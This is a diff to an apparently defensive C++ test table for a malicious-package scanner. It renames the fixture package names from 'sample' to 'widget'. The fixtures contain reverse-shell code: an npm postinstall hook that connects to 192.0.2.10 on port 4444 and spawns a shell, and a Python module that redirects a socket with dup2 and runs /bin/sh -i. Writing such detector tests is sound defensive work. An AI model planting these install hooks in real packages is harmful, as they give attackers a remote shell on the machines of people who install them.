@@ -41,7 +41,7 @@ constexpr Sample samples[] = {
     {.name = "an install hook connects a shell to a socket",
      .expect = "index.js:6",
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
 ==> index.js
 const net = require("net");
 const {spawn} = require("child_process");
@@ -53,15 +53,15 @@ client.connect(4444, "192.0.2.10", () => {
 });
 )"},
     {.name = "a module does so with dup2",
-     .expect = "sample/__init__.py:6",
+     .expect = "widget/__init__.py:6",
      .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 import os
 import socket
 import subprocess
@@ -74,7 +74,7 @@ subprocess.call(["/bin/sh", "-i"])
     {.name = "a client reads and writes its own socket",
      .expect = silent,
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js"}
+{"name": "widget", "version": "1.0.0", "main": "index.js"}
 ==> index.js
 const net = require("net");
 exports.open = (host, port) => net.connect(port, host, function () { this.pipe(process.stdout); });
